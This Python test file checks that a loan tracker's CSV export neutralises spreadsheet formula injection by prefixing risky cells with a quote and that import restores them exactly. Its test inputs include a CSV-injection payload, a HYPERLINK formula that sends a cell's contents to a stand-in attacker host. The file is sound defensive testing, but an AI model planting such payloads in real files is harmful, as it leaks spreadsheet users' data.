"""Export protects cells Excel and WPS would run as formulas (= + - @ tab CR) with a ', and import takes exactly
that ' off again: what was stored comes back as it was, a leading ' of the user's own included."""

from __future__ import annotations

import csv
import json
from datetime import date

from jiebei_tracker.cli import main
from jiebei_tracker.domain.vocabulary import NoteKind
from jiebei_tracker.importers.columns import FileKind
from jiebei_tracker.importers.export import note_cells, write_csv
from jiebei_tracker.importers.table import read_rows
from tests.scenarios import draft

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1",
    "-1+2",
    "@SUM(A1)",
    "\tx",
    "\rx",
    "'=1",
    "''=1",
]
HARMLESS = ["借呗", "1+1", "'quoted'", "a=b"]


def _cells(path, column: str) -> list[str]:
    """The raw cells of one column, as a spreadsheet would get them."""
    with open(path, encoding="utf-8-sig", newline="") as handle:
        return [row[column] for row in csv.DictReader(handle)]


def test_every_formula_start_is_protected_and_reads_back_exactly(tmp_path):
    path = tmp_path / "notes.csv"
    texts = HOSTILE + HARMLESS
    rows = [
        note_cells(noted_on=date(2026, 1, 5), kind="other", text=t, resolved=False, resolved_on=None) for t in texts
    ]
    assert write_csv(path, FileKind.NOTES, rows) == len(texts)
    raw = _cells(path, "text")
    assert raw[: len(HOSTILE)] == ["'" + text for text in HOSTILE]
    assert raw[len(HOSTILE) :] == HARMLESS  # nothing else changes
    assert _cells(path, "date")[0] == "2026-01-05"
    read = list(read_rows(path.read_bytes().decode("utf-8-sig"), ",", file_name=path.name))  # CR kept
    assert [row.cells[2] for row in read[1:]] == texts


def test_the_cli_export_protects_the_users_text_and_imports_it_back(ledger, database, db_path, tmp_path, capsys):
    names = [text for text in HOSTILE if not text[0].isspace()]  # a name holds no tab or CR
    for number, name in enumerate(names):
        ledger.add_loan(draft(name, note="\tfirst line", external_id=f"-{number}", borrowed_on=date(2025, 3, 5)))
        ledger.record_limit(name, recorded_on=date(2025, 3, 5), limit_fen=500_000, note="@limit")
    ledger.add_note(noted_on=date(2025, 3, 6), kind=NoteKind.OTHER, text="=1+2")
    database.close()
    out = tmp_path / "out"
    assert main(["--db", str(db_path), "export", str(out)]) == 0
    assert _cells(out / "loans.csv", "platform") == ["'" + name for name in names]
    assert set(_cells(out / "loans.csv", "note")) == {"'\tfirst line"}
    assert set(_cells(out / "loans.csv", "principal")) == {"12000.00"}  # numbers stay numbers
    assert _cells(out / "notes.csv", "text") == ["'=1+2"]

    other = tmp_path / "other.db"
    for kind in ("loans", "repayments", "limits", "notes"):
        assert main(["--db", str(other), "import", kind, str(out / f"{kind}.csv")]) == 0, capsys.readouterr().err
    capsys.readouterr()
    assert main(["--db", str(other), "platforms", "--json"]) == 0
    assert sorted(p["platform"] for p in json.loads(capsys.readouterr().out)) == sorted(names)
    assert main(["--db", str(other), "notes", "--json"]) == 0
    assert [n["text"] for n in json.loads(capsys.readouterr().out)] == ["=1+2"]
    again = tmp_path / "again"
    assert main(["--db", str(other), "export", str(again)]) == 0
    for kind in ("loans", "repayments", "limits", "notes"):  # the same bytes: nothing gained or lost a '
        assert (again / f"{kind}.csv").read_bytes() == (out / f"{kind}.csv").read_bytes(), kind
